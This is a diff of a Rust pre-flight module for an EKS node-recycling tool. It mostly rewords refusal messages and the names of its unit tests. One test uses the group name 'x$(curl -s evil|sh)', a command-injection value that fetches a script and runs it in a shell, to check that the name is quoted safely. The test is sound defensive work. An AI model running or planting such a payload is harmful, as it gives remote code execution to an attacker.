@@ -1,6 +1,6 @@
-//! Pre-flight: may this node be recycled as asked? Nothing has been touched yet.
+//! Pre-flight: decides whether this node may be recycled as asked, before anything is changed.
 //!
-//! All refusals at once: each has a name that does not change, and a sentence that says what was found and what a person may do.
+//! It returns all refusals at once. Each has a name that does not change, and a sentence with what was found and what an operator can do.
 
 use crate::base::ids::InstanceId;
 use crate::base::names::SCALE_DOWN_DISABLED_ANNOTATION;
@@ -19,7 +19,7 @@ use crate::cluster::node::NodeFacts;
 
 /// The number of retries of `claim-node` after which a cluster that never answered counts as unreachable.
 /// The retries take some minutes, in which an API server that is only being upgraded comes back.
-/// After two more retries the state machine would give up without the advice.
+/// After two more retries the state machine would give up, and the error would not have the advice.
 pub const TRIES_OF_AN_ENDPOINT: u32 = 8;
 
 /// The result of pre-flight.
@@ -47,7 +47,7 @@ pub fn check_preflight(facts: &PreflightFacts<'_>) -> Preflight {
     let id = &facts.input.instance_id;
     let Some(instance) = facts.instance else {
         return Preflight::Refused(vec![Obstacle::UnknownInstance.because(format!(
-            "EC2 knows no instance {id} in this account and region; check the id, and that the cluster is here"
+            "EC2 knows no instance {id} in this account and region; check the id, and that the cluster is in them"
         ))]);
     };
     if let Some(gone) = describe_gone(instance).or_else(|| describe_going(facts, instance)) {
@@ -59,9 +59,8 @@ pub fn check_preflight(facts: &PreflightFacts<'_>) -> Preflight {
             .iter()
             .any(|overrides| refusal.obstacle.is_overridden_by(*overrides))
     };
-    let (overridden, refusals): (Vec<Refusal>, Vec<Refusal>) = find_refusals(facts, instance)
-        .into_iter()
-        .partition(is_overridden);
+    let (overridden, refusals): (Vec<Refusal>, Vec<Refusal>) =
+        find_refusals(facts, instance).into_iter().partition(is_overridden);
     if !refusals.is_empty() {
         return Preflight::Refused(refusals);
     }
@@ -85,7 +84,7 @@ fn find_refusals(facts: &PreflightFacts<'_>, instance: &Instance) -> Vec<Refusal
         Some(group) => check_lifecycle(facts, instance, group),
         None if is_owned => None,
         None => Some(Obstacle::NoGroup.because(format!(
-            "{id} is in no Auto Scaling group, so that nothing would replace it; attach it to a group or drain it by hand"
+            "{id} is in no Auto Scaling group, so nothing would replace it; attach it to a group, or drain it by hand"
         ))),
     };
     if node.is_none() && is_seen && lifecycle.is_none() {
@@ -118,8 +117,8 @@ fn check_cluster(facts: &PreflightFacts<'_>) -> Option<Refusal> {
     let cluster = &facts.input.cluster_name;
     if let Some(endpoint) = facts.unreachable {
         return Some(Obstacle::UnreachableEndpoint.because(format!(
-            "the endpoint {endpoint} of cluster {cluster} does not answer; if it is private, set the module's variable vpc and let the \
-             functions' security group in at port 443; if it is public with a list of CIDR blocks, the functions' addresses have to be on it"
+            "the endpoint {endpoint} of cluster {cluster} does not answer; if it is private, set the module's variable vpc and allow the \
+             functions' security group at port 443; if it is public with a list of CIDR blocks, add the functions' addresses to the list"
         )));
     }
     let missing = facts.missing_permissions;
@@ -137,11 +136,11 @@ fn check_taints(id: &InstanceId, node: &NodeFacts) -> Option<Refusal> {
     let name = &node.name;
     match find_remover(node)? {
         Remover::ClusterAutoscaler(key) => Some(Obstacle::RemovedByAutoscaler.because(format!(
-            "Cluster Autoscaler is about to remove node {name} ({id}), which has the taint {key}; let it, or annotate the node \
-             {SCALE_DOWN_DISABLED_ANNOTATION}=true and take the taint away"
+            "Cluster Autoscaler is about to remove node {name} ({id}), which has the taint {key}; let it do so, or annotate the node \
+             {SCALE_DOWN_DISABLED_ANNOTATION}=true and remove the taint"
         ))),
         Remover::Karpenter(key) => Some(Obstacle::DisruptedByKarpenter.because(format!(
-            "Karpenter is about to remove node {name} ({id}), which has the taint {key}; let it"
+            "Karpenter is about to remove node {name} ({id}), which has the taint {key}; let it do so"
         ))),
     }
 }
@@ -358,7 +357,7 @@ mod tests {
     }
 
     #[test]
-    fn what_cannot_be_recycled_is_refused_with_advice() {
+    fn a_node_that_cannot_be_recycled_is_refused_with_advice() {
         let cases = [
             (
                 "an unknown instance",
@@ -371,7 +370,7 @@ mod tests {
                 "EC2 knows no instance i-0aaaaaaaaaaaaaaaa in this account and region",
             ),
             (
-                "Karpenter's",
+                "a node of Karpenter",
                 World {
                     group: None,
                     ..World::with_labels([("karpenter.sh/nodepool", "spot")])
@@ -379,7 +378,7 @@ mod tests {
                 "belongs to Karpenter (node pool spot)",
             ),
             (
-                "Auto Mode's",
+                "a node of Auto Mode",
                 World::with_labels([
                     ("karpenter.sh/nodepool", "system"),
                     ("eks.amazonaws.com/compute-type", "auto"),
@@ -387,7 +386,7 @@ mod tests {
                 "belongs to EKS Auto Mode (node pool system)",
             ),
             (
-                "Auto Mode's without a pool",
+                "a node of Auto Mode without a pool",
                 World::with_labels([("eks.amazonaws.com/compute-type", "auto")]),
                 "belongs to EKS Auto Mode, which replaces its nodes itself",
             ),
@@ -416,14 +415,14 @@ mod tests {
                 "is no longer a member of group workers",
             ),
             (
-                "somebody else's Standby",
+                "Standby that recycle-eks did not request",
                 World::with_member("Standby"),
-                "is Standby in group workers, but not by recycle-eks (it has no tag recycle-eks:standby)",
+                "is Standby in group workers, but recycle-eks did not put it there (it has no tag recycle-eks:standby)",
             ),
             (
-                "entering it",
+                "entering such a Standby",
                 World::with_member("EnteringStandby"),
-                "is EnteringStandby in group workers, but not by",
+                "is EnteringStandby in group workers, but recycle-eks did not",
             ),
             (
                 "launching",
@@ -433,7 +432,7 @@ mod tests {
             (
                 "terminating",
                 World::with_member("Terminating:Wait"),
-                "group workers is terminating it already",
+                "group workers is already terminating it",
             ),
             (
                 "no Node",
@@ -441,7 +440,7 @@ mod tests {
                 "is no node of cluster prod: no Node there has its providerID",
             ),
             (
-                "no Node, by the cluster's tag this cluster",
+                "no Node, although the tag names this cluster",
                 world()
                     .without_node()
                     .tagged([("kubernetes.io/cluster/prod", "owned")]),
@@ -475,7 +474,7 @@ mod tests {
             (
                 "protected",
                 world().protected(),
-                "write override [\"scale_in_protection\"]",
+                "set override [\"scale_in_protection\"]",
             ),
             (
                 "Launch suspended",
@@ -513,7 +512,7 @@ mod tests {
                 "is Warmed:Stopped: it waits in the warm pool of group workers",
             ),
             (
-                "no member any more, whatever the group said a moment ago",
+                "no longer a member, although the group just listed it",
                 World {
                     group: Some(Group {
                         members: vec![member(OTHER, "InService")],
@@ -564,10 +563,10 @@ mod tests {
             (
                 "the last target",
                 World::behind(json!({}), 0),
-                "is the last healthy target of target group web, which EnterStandby takes it out of",
+                "is the last healthy target of target group web, and EnterStandby takes it out of there",
             ),
             (
-                "a sick node is to be kept",
+                "a node that is not Ready is to be kept",
                 World {
                     node: Some(NodeFacts {
                         ready: false,
@@ -580,7 +579,7 @@ mod tests {
             (
                 "Spot cannot be stopped",
                 World::asked(json!({"dispose": "stop"})).on_spot(),
-                "is a one-time Spot instance, which EC2 cannot stop; write dispose \"terminate\"",
+                "is a one-time Spot instance, which EC2 cannot stop; set dispose \"terminate\"",
             ),
         ];
         for (name, world, expected) in cases {
@@ -596,7 +595,7 @@ mod tests {
     }
 
     #[test]
-    fn a_groups_name_is_one_word_in_the_command_that_keeps_the_machine() {
+    fn the_name_of_a_group_is_one_word_in_the_detach_command() {
         const NAME: &str = "x$(curl -s evil|sh)";
         let mut world = World::asked(json!({"dispose": "stop"}));
         world.node = world.node.map(|node| NodeFacts { ready: false, ..node });
@@ -615,7 +614,7 @@ mod tests {
     }
 
     #[test]
-    fn all_refusals_are_told_at_once_what_force_overrides_last() {
+    fn all_refusals_are_listed_at_once_and_those_that_can_be_overridden_come_last() {
         let refreshing = GroupState {
             refresh: Some("InProgress".to_owned()),
             is_weighted: true,
@@ -647,10 +646,10 @@ mod tests {
     }
 
     #[test]
-    fn of_what_hangs_together_only_the_root_is_told() {
+    fn of_related_reasons_only_the_cause_is_named() {
         let cases = [
             (
-                "without permission nobody has read the Node",
+                "without permission the Node was not read",
                 World {
                     missing_permissions: vec!["list pods".to_owned()],
                     ..world().without_node().protected()
@@ -658,7 +657,7 @@ mod tests {
                 vec!["missing_permission", "scale_in_protection"],
             ),
             (
-                "without an endpoint neither",
+                "without an endpoint the Node was not read",
                 World {
                     unreachable: Some("https://x"),
                     ..world().without_node().protected()
@@ -674,7 +673,7 @@ mod tests {
                 vec!["karpenter"],
             ),
             (
-                "a stranger's",
+                "an instance without a group and without a Node",
                 World {
                     group: None,
                     ..world().without_node()
@@ -682,7 +681,7 @@ mod tests {
                 vec!["no_group"],
             ),
             (
-                "a warm one has no Node",
+                "an instance in the warm pool has no Node",
                 World {
                     group: Some(Group {
                         members: vec![member(OTHER, "InService")],
@@ -700,7 +699,7 @@ mod tests {
     }
 
     #[test]
-    fn the_notes_list_the_refusals_that_the_input_overrides() {
+    fn override_applies_to_the_named_obstacles_and_is_noted() {
         let all = World::behind(
             json!({"override": ["scale_in_protection", "suspended_process", "last_target"]}),
             0,
@@ -708,9 +707,7 @@ mod tests {
         let Preflight::Go { notes } = all.protected().suspending(&["Launch"]).check() else {
             panic!()
         };
-        let overridden = notes
-            .iter()
-            .filter(|note| note.starts_with("the input overrides "));
+        let overridden = notes.iter().filter(|note| note.starts_with("the input overrides "));
         assert_eq!(overridden.count(), 3, "{notes:?}");
         let all_overrides = input(json!({"override": [
             "scale_in_protection", "last_target", "running_pods", "suspended_process",
@@ -726,7 +723,7 @@ mod tests {
     }
 
     #[test]
-    fn the_last_target_leaves_only_after_its_drain() {
+    fn the_last_target_is_refused_unless_the_work_has_begun() {
         assert_eq!(World::behind(json!({}), 1).names(), Vec::<&str>::new());
         assert_eq!(World::behind(json!({}), 0).names(), ["last_target"]);
         assert_eq!(World::behind(json!({}), 0).resuming().names(), Vec::<&str>::new());
@@ -745,7 +742,7 @@ mod tests {
     }
 
     #[test]
-    fn the_state_machine_tries_once_more_than_an_endpoint_has() {
+    fn the_state_machine_retries_more_often_than_the_endpoint_check() {
         let most = include_str!("../../../../terraform/state-machine.tf")
             .split("MaxAttempts     = ")
             .nth(1)
@@ -767,7 +764,7 @@ mod tests {
     }
 
     #[test]
-    fn a_member_that_our_hook_holds_is_drained_whatever_its_group_is_at() {
+    fn a_member_that_the_hook_holds_is_drained_in_any_state_of_its_group() {
         for state in ["Terminating", "Terminating:Wait", "Terminating:Retained"] {
             assert!(on(state, hook()).names().is_empty(), "{state}");
             let busy = World {
@@ -778,7 +775,7 @@ mod tests {
                 },
                 ..on(state, hook())
             };
-            assert!(busy.names().is_empty(), "{state}: that is why it goes");
+            assert!(busy.names().is_empty(), "{state}: the group's state is the cause of the termination");
         }
         assert_eq!(on("InService", hook()).names(), ["not_terminating"]);
         let gone = on("Terminating:Proceed", hook()).check();
@@ -786,7 +783,7 @@ mod tests {
     }
 
     #[test]
-    fn what_the_policies_will_refuse_is_refused_before_anything_is_touched() {
+    fn a_missing_cluster_tag_is_refused_before_anything_is_changed() {
         let interrupted = json!({"urgency": "spot", "interrupted_at": "2027-01-01T00:02:00Z"});
         let retained = |world: World| World {
             group_retains: true,
@@ -803,17 +800,17 @@ mod tests {
                 vec![tag, tag],
             ),
             (
-                "a held instance is tagged, too",
+                "an instance that the hook holds",
                 held().of_no_cluster(),
                 vec![tag],
             ),
             (
-                "its group is not changed",
+                "the group of an instance that the hook holds",
                 held().in_untagged_group(),
                 none.clone(),
             ),
             (
-                "but if it retains",
+                "the group of such an instance, if it retains instances",
                 retained(held().in_untagged_group()),
                 vec![tag],
             ),
@@ -823,12 +820,12 @@ mod tests {
                 none.clone(),
             ),
             (
-                "it was begun",
+                "the work has begun",
                 world().of_no_cluster().in_untagged_group().resuming(),
                 none.clone(),
             ),
             (
-                "another cluster's, with a Node here",
+                "an instance of another cluster, with a Node here",
                 world()
                     .of_no_cluster()
                     .tagged([("kubernetes.io/cluster/test", "owned")]),
@@ -868,8 +865,7 @@ mod tests {
     }
 
     #[test]
-    fn whom_ec2_takes_away_nothing_of_the_group_holds_back_and_whom_it_is_only_likely_to_take_everything_does()
-     {
+    fn the_state_of_the_group_holds_back_an_execution_unless_ec2_takes_the_instance_away() {
         let interrupted = json!({"urgency": "spot", "interrupted_at": "2027-01-01T00:02:00Z"});
         for (more, state, expected) in [
             (interrupted.clone(), "InService", vec![]),
@@ -893,20 +889,20 @@ mod tests {
     }
 
     #[test]
-    fn what_is_gone_is_nothing_to_do() {
+    fn an_instance_that_is_gone_needs_no_work() {
         let stopped = World::in_state("stopped").tagged([(STOPPED_TAG, "2027-01-01T00:00:00Z")]);
         let cases = [
-            (World::in_state("terminated"), "is terminated already"),
+            (World::in_state("terminated"), "is already terminated"),
             (
                 World {
                     group: None,
                     ..World::in_state("shutting-down").without_node()
                 },
-                "is shutting-down already",
+                "is already shutting-down",
             ),
             (
                 stopped.without_node(),
-                "was stopped by recycle-eks at 2027-01-01T00:00:00Z already",
+                "was already stopped by recycle-eks at 2027-01-01T00:00:00Z",
             ),
         ];
         for (world, expected) in cases {
@@ -918,8 +914,8 @@ mod tests {
     }
 
     #[test]
-    fn force_and_what_an_earlier_execution_did_are_no_reason_to_refuse() {
-        let ours = [(STANDBY_TAG, "2027-01-01T00:00:00Z")];
+    fn overridden_obstacles_and_changes_of_an_earlier_execution_are_no_reason_to_refuse() {
+        let by_recycle_eks = [(STANDBY_TAG, "2027-01-01T00:00:00Z")];
         let cases = [
             ("all is well", world()),
             (
@@ -927,7 +923,7 @@ mod tests {
                 World::asked(json!({"override": ["scale_in_protection"]})).protected(),
             ),
             (
-                "it is we who protect it, while another node is put back",
+                "recycle-eks protects it while another node is restored",
                 world().protected().tagged([("recycle-eks:protected-for", OTHER)]),
             ),
             (
@@ -943,18 +939,18 @@ mod tests {
                 World::asked(json!({"dispose": "stop"})).suspending(&["Terminate"]),
             ),
             ("Spot is terminated", world().on_spot()),
-            ("our own Standby", World::with_member("Standby").tagged(ours)),
+            ("Standby by an earlier execution", World::with_member("Standby").tagged(by_recycle_eks)),
             (
-                "our own way there",
-                World::with_member("EnteringStandby").tagged(ours).resuming(),
+                "EnteringStandby by an earlier execution",
+                World::with_member("EnteringStandby").tagged(by_recycle_eks).resuming(),
             ),
             (
-                "our own termination",
-                World::with_member("Terminating:Wait").tagged(ours).resuming(),
+                "termination by an earlier execution",
+                World::with_member("Terminating:Wait").tagged(by_recycle_eks).resuming(),
             ),
-            ("protected since we began", world().protected().resuming()),
+            ("protected since the work began", world().protected().resuming()),
             (
-                "suspended since we began",
+                "suspended since the work began",
                 world().suspending(&["Launch"]).resuming(),
             ),
         ];
@@ -968,7 +964,7 @@ mod tests {
     }
 
     #[test]
-    fn notes_tell_what_a_person_should_know() {
+    fn notes_name_what_an_operator_should_know() {
         let sized = |min, desired, max| World {
             group: Some(Group {
                 min,
@@ -983,7 +979,7 @@ mod tests {
             (
                 "min = desired = max",
                 sized(2, 2, 2),
-                vec!["no legal way back from Standby"],
+                vec!["the node cannot be restored from Standby"],
             ),
             (
                 "at max",
@@ -1043,7 +1039,7 @@ mod tests {
             (
                 "resumed",
                 world().resuming(),
-                vec!["this one goes on from where it came"],
+                vec!["this execution continues where it stopped"],
             ),
         ];
         for (name, world, expected) in cases {
